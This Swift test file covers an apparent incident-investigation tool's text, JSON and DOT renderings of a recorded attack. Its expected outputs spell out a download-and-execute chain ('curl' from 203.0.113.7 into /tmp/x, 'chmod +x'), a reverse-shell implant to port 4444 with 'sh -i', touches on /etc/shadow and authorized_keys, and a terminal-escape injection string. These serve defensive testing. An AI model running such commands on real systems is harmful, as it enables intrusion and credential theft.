import Foundation
import MamoriInvestigation
import MamoriStore
import Testing

@Suite struct StoryRendererTests {
    let dir = TempDir()

    private func story(_ reference: String = AttackFixture.incidentUUID) throws -> Story {
        let store = try AttackFixture.build(at: dir.dbPath)
        return try StoryBuilder(store: store).build(reference: reference)
    }

    // MARK: Text

    @Test func textShowsTreeAlertsTimelineAndImpact() throws {
        let text = StoryTextRenderer.render(try story())
        let lines = text.split(separator: "\n").map(String.init)
        #expect(lines.first == "Story of incident \(AttackFixture.incidentUUID)")
        #expect(text.contains("Root: bash[1201] entity E-bash (the incident's root process)"))
        #expect(text.contains("Ancestry: systemd[1] › sshd[800] › bash[1201]"))
        #expect(lines.contains("bash[1201] -bash"))
        #expect(lines.contains { $0.hasPrefix("├── curl[1202] curl -s -o /tmp/x http://203.0.113.7/x  (exit 0)  ◀ ALERT medium Executable downloaded to /tmp") })
        #expect(lines.contains("├── chmod[1203] chmod +x /tmp/x  (exit 0)"))
        #expect(lines.contains { $0.hasPrefix("└── x[1204] /tmp/x -c \"127.0.0.1:4444\" -k 'a\\\\b'  ◀ ALERT high Reverse shell to a raw TCP port") })
        #expect(lines.contains("    └── sh[1205] sh -i"))
        #expect(text.contains("ALERTS (2)"))
        #expect(text.contains("TIMELINE (14 events)"))
        #expect(lines.contains { $0.contains("2026-11-27T03:00:10.000Z") && $0.contains("connect") && $0.contains("x[1204]") && $0.contains("→ 127.0.0.1:4444/tcp") && $0.hasPrefix("  !") })
        #expect(lines.contains { $0.contains("→ 127.0.0.1:4445/tcp (failed: ECONNREFUSED)") })
        #expect(lines.contains { $0.contains("/tmp/x → /tmp/.x") })
        #expect(text.contains("processes: 5 (the root and 4 descendants)"))
        #expect(text.contains("files changed (4):"))
        #expect(lines.contains { $0.hasPrefix("    /tmp/x ") && $0.contains("creation, open-write, chmod, rename") && $0.contains("by curl[1202], chmod[1203], sh[1205]") })
        #expect(lines.contains { $0.hasPrefix("    /etc/shadow ") && $0.contains("1 failed") })
        #expect(lines.contains { $0.hasPrefix("    127.0.0.1:4444/tcp") && $0.contains("outbound") && $0.contains("by x[1204]") })
        #expect(!text.contains("vim") && !text.contains("/etc/motd") && !text.contains("backup"))
        // Timeline lines keep the order of the story.
        let curlConnect = try #require(lines.firstIndex { $0.contains("203.0.113.7:80") && $0.contains("connect") })
        let implantConnect = try #require(lines.firstIndex { $0.contains("127.0.0.1:4444/tcp") && $0.contains("connect") })
        #expect(curlConnect < implantConnect)
    }

    @Test func textNeutralisesTerminalEscapesInStoredStrings() throws {
        let store = try AttackFixture.build(at: dir.dbPath)
        try store.write([.process(ProcessRow(entityId: "E-evil", pid: 1300, ppid: 1201, parentEntityId: "E-bash",
                                             executable: "/tmp/evil", commandLine: "evil \u{1b}]0;pwned\u{07}\nFAKE",
                                             startNs: 5_000, seenUnixNs: AttackFixture.t0))])
        let text = StoryTextRenderer.render(try StoryBuilder(store: store).build(.entity("E-evil")))
        #expect(!text.contains("\u{1b}"))
        #expect(text.contains("evil \\x1b]0;pwned\\x07\\nFAKE"))
    }

    @Test func processesThatExecAgainShowTheirChainAndTheirImageAtEachMoment() throws {
        let store = try AttackFixture.build(at: dir.dbPath)
        // /tmp/x execs sleep after its connects (the row now says sleep); sh writes /dev/null.
        try store.write([
            .event(EventRow(tsNs: 1, tsUnixNs: AttackFixture.t0 + 17 * AttackFixture.second, kind: "exec",
                            action: "exec", pid: 1204, entityId: "E-x", executable: "/usr/bin/sleep",
                            commandLine: "sleep 1", path: "/usr/bin/sleep")),
            .process(ProcessRow(entityId: "E-x", pid: 1204, executable: "/usr/bin/sleep", commandLine: "sleep 1",
                                seenUnixNs: AttackFixture.t0)),
            .event(EventRow(tsNs: 2, tsUnixNs: AttackFixture.t0 + 18 * AttackFixture.second, kind: "file",
                            action: "truncate", pid: 1205, entityId: "E-sh", path: "/dev/null")),
        ])
        let story = try StoryBuilder(store: store).build(.alert(AttackFixture.shellAlertUUID))
        let x = try #require(story.tree.flattened.first { $0.entityId == "E-x" })
        #expect(x.execs.map(\.name) == ["x", "sleep"])
        #expect(x.execCount == 2)
        #expect(story.processName("E-x") == "sleep")
        #expect(story.processName("E-x", at: AttackFixture.t0 + 10 * AttackFixture.second) == "x")
        let text = StoryTextRenderer.render(story)
        #expect(text.contains("└── sleep[1204] sleep 1  (execs: x → sleep)  ◀ ALERT high"))
        #expect(text.contains("on x[1204]"))  // the alert names the image that ran at alert time
        #expect(text.split(separator: "\n").contains { $0.hasPrefix("    127.0.0.1:4444/tcp") && $0.contains("by x[1204]") })
        #expect(!text.contains("/dev/null"))
        #expect(!story.impact.files.contains { $0.path == "/dev/null" })
        let dot = StoryDOTRenderer.render(story)
        #expect(dot.contains("execs: x → sleep"))
        let json = StoryJSONRenderer.render(story)
        #expect(json.contains(#""exec_count":2"#))
    }

    @Test func truncatedTimelineIsAnnounced() throws {
        let store = try AttackFixture.build(at: dir.dbPath)
        let s = try StoryBuilder(store: store, options: StoryOptions(timelineLimit: 2)).build(.incident(AttackFixture.incidentUUID))
        let text = StoryTextRenderer.render(s)
        #expect(text.contains("TIMELINE (2 events, cut at 2: more exist)"))
        #expect(text.contains("NOTES"))
    }

    // MARK: JSON

    @Test func jsonIsOneObjectWithTheWholeStory() throws {
        let json = StoryJSONRenderer.render(try story(AttackFixture.shellAlertUUID))
        #expect(!json.contains("\n"))
        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
        let target = try #require(object["target"] as? [String: Any])
        #expect(target["kind"] as? String == "alert")
        #expect((object["root"] as? [String: Any])?["reason"] as? String == "session-leader")
        let tree = try #require(object["tree"] as? [String: Any])
        #expect(tree["entity_id"] as? String == "E-bash")
        let children = try #require(tree["children"] as? [[String: Any]])
        #expect(children.map { $0["name"] as? String } == ["curl", "chmod", "x"])
        #expect(children[2]["alerting"] as? Bool == true)
        #expect(children[2]["command_line"] as? String == AttackFixture.implantCommandLine)
        let timeline = try #require(object["timeline"] as? [String: Any])
        #expect((timeline["events"] as? [Any])?.count == 14)
        #expect(timeline["truncated"] as? Bool == false)
        let impact = try #require(object["impact"] as? [String: Any])
        let files = try #require(impact["files"] as? [[String: Any]])
        #expect(Set(files.compactMap { $0["path"] as? String }) == ["/tmp/x", "/root/.ssh/authorized_keys", "/tmp/.x", "/etc/shadow"])
        let addresses = try #require(impact["addresses"] as? [[String: Any]])
        #expect(addresses.compactMap { $0["endpoint"] as? String } == ["203.0.113.7:80", "127.0.0.1:4444", "127.0.0.1:4445"])
        let alerts = try #require(object["alerts"] as? [[String: Any]])
        #expect(((alerts.last?["ecs"] as? [String: Any])?["event"] as? [String: Any])?["kind"] as? String == "alert")
    }

    // MARK: DOT

    @Test func dotIsSyntacticallySane() throws {
        let dot = StoryDOTRenderer.render(try story())
        let structure = try DOTCheck(dot)
        #expect(dot.hasPrefix("digraph mamori_story {\n"))
        #expect(dot.hasSuffix("}\n"))
        #expect(structure.braceBalance == 0)
        for (from, to) in structure.edges {
            #expect(structure.nodes.contains(from), "edge from undeclared node \(from)")
            #expect(structure.nodes.contains(to), "edge to undeclared node \(to)")
        }
        // 2 ancestors + 5 processes + 4 files + 3 addresses.
        #expect(structure.nodes.count == 14)
        // Parent → child edges of the tree, ancestry chain, file and address links.
        #expect(structure.edges.filter { $0.0.hasPrefix("p") && $0.1.hasPrefix("p") }.count == 4)
        #expect(structure.edges.filter { $0.1.hasPrefix("f") }.count == 6)
        #expect(structure.edges.filter { $0.1.hasPrefix("n") }.count == 3)
        // Quotes and backslashes of the command line are escaped inside the label.
        #expect(dot.contains(#"/tmp/x -c \"127.0.0.1:4444\" -k 'a\\\\b'"#))
        // Alerting processes are red; files and addresses have their own shapes.
        #expect(dot.split(separator: "\n").contains { $0.contains("color=red") && $0.contains("x[1204]") })
        #expect(dot.contains("shape=note") && dot.contains("shape=hexagon"))
        #expect(!dot.contains("vim"))
    }

    @Test func dotCapsFileNodes() throws {
        let dot = StoryDOTRenderer.render(try story(), maxFiles: 2, maxAddresses: 1)
        let structure = try DOTCheck(dot)
        #expect(structure.nodes.contains("f_more") && structure.nodes.contains("n_more"))
        #expect(!structure.nodes.contains("f2"))
        #expect(structure.edges.allSatisfy { structure.nodes.contains($0.0) && structure.nodes.contains($0.1) })
    }
}

/// A small structural reading of the renderer's DOT: statements one per line, quoted strings
/// with `\"` and `\\` escapes. Fails on an unterminated string.
struct DOTCheck {
    var nodes = Set<String>()
    var edges = [(String, String)]()
    var braceBalance = 0

    struct Unterminated: Error { var line: String }

    init(_ dot: String) throws {
        for line in dot.split(separator: "\n").map(String.init) {
            var outside = ""   // the line with quoted strings removed
            var inString = false, escaped = false
            for ch in line {
                if inString {
                    if escaped { escaped = false } else if ch == "\\" { escaped = true } else if ch == "\"" { inString = false }
                } else if ch == "\"" {
                    inString = true
                } else {
                    outside.append(ch)
                }
            }
            if inString { throw Unterminated(line: line) }
            braceBalance += outside.filter { $0 == "{" }.count - outside.filter { $0 == "}" }.count
            let statement = outside.trimmingCharacters(in: .whitespaces)
            let head = statement.split(separator: "[").first.map { $0.trimmingCharacters(in: .whitespaces) } ?? ""
            if head.contains("->") {
                let parts = head.replacingOccurrences(of: ";", with: "").components(separatedBy: "->")
                    .map { $0.trimmingCharacters(in: .whitespaces) }
                edges.append((parts[0], parts[1]))
            } else if statement.contains("["), !["graph", "node", "edge"].contains(head) {
                nodes.insert(head)
            }
        }
    }
}
